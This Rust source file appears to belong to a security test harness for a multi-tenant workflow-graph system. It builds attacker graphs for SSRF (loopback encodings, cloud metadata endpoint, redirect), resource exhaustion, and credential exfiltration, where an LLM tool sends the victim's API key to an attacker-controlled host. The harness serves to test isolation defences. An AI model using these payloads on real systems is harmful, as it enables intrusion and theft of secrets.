//! The attacker's graphs: every escape written as a graph of its own tenant, and their
//! publication signed by the attacker's publisher key.

use rdkafka::producer::FutureProducer;
use sortie_core::Graph;
use sortie_wire::records as w;

use super::{Target, Victim, ATTACKER_MARK};
use crate::produce::send;

/// The attacker's graphs, published once: `(id, yaml)`.
pub(super) fn attacker_graphs(victim: &Victim, receiver: &str) -> Vec<(String, String)> {
    let loopback_port = victim
        .receiver_url
        .rsplit(':')
        .next()
        .unwrap_or("80")
        .to_owned();
    let http = |id: &str, url: &str, class: &str| {
        (
            id.to_owned(),
            format!(
                "id: {id}\nversion: 1\nnodes:\n  - id: call\n    tool: http\n    side_effect: {class}\n    retry: {{max_attempts: 1}}\n    timeout: 5s\n    args: {{mark: {ATTACKER_MARK}, n: $input.n}}\n    config: {{url: \"{url}\"}}\n"
            ),
        )
    };
    let mut graphs = vec![
        http(
            "ssrf-direct",
            &format!("{}/effects/stolen", victim.receiver_url),
            "pure",
        ),
        http(
            "ssrf-localhost",
            &format!("http://localhost:{loopback_port}/effects/stolen"),
            "pure",
        ),
        http(
            "ssrf-mapped",
            &format!("http://[::ffff:127.0.0.1]:{loopback_port}/effects/stolen"),
            "pure",
        ),
        http(
            "ssrf-hex",
            &format!("http://0x7f000001:{loopback_port}/effects/stolen"),
            "pure",
        ),
        http(
            "ssrf-metadata",
            "http://169.254.169.254/latest/meta-data/",
            "pure",
        ),
        http("ssrf-private", "http://10.255.255.1/", "pure"),
        http(
            "ssrf-redirect",
            &format!(
                "{receiver}/redirect?to={}/effects/stolen",
                victim.receiver_url
            ),
            "pure",
        ),
        http("giant", &format!("{receiver}/giant"), "pure"),
        http("endless", &format!("{receiver}/endless"), "pure"),
    ];
    graphs.push((
        "ssrf-lookup".into(),
        format!(
            "id: ssrf-lookup\nversion: 1\nnodes:\n  - id: call\n    tool: http\n    side_effect: reconcilable\n    retry: {{max_attempts: 1}}\n    timeout: 5s\n    args: {{mark: {ATTACKER_MARK}}}\n    config: {{url: \"{receiver}/hang\", status_url: \"{}/status\"}}\n",
            victim.receiver_url
        ),
    ));
    for (id, env) in [
        ("steal-secret", victim.secret.0.as_str()),
        ("steal-home", "HOME"),
    ] {
        graphs.push((
            id.into(),
            format!(
                "id: {id}\nversion: 1\nnodes:\n  - id: ask\n    tool: llm\n    side_effect: pure\n    retry: {{max_attempts: 1}}\n    timeout: 5s\n    args: {{messages: [{{role: user, content: {ATTACKER_MARK}}}]}}\n    config: {{base_url: \"{receiver}/v1\", model: m, api_key_env: {env}}}\n"
            ),
        ));
    }
    graphs
}

/// A graph record for `graph` owned by `owner`, signed by the attacker's publisher key.
pub(super) async fn publish(
    target: &Target,
    producer: &FutureProducer,
    graph: Graph,
    owner: Option<&str>,
) -> anyhow::Result<()> {
    let definition = graph.canonical_json();
    let record = w::GraphDefinition {
        graph_id: graph.id.clone(),
        version: i32::try_from(graph.version)?,
        tenant: owner.map(str::to_owned),
        definition_hash: sortie_core::blob::sha256_hex(definition.as_bytes()),
        definition,
        published_by: target.attacker.publisher.1.clone(),
        published_at: sortie_kafka::clock::now_ms(),
    };
    let topic = target.topics.graphs();
    let value = target.codec.encode(&topic, &record).await?;
    let key = sortie_core::graph::qualified_id(owner, &graph.id) + &format!("@{}", graph.version);
    send(
        producer,
        &topic,
        &key,
        None,
        &value,
        &target.attacker.publisher.0,
    )
    .await
}
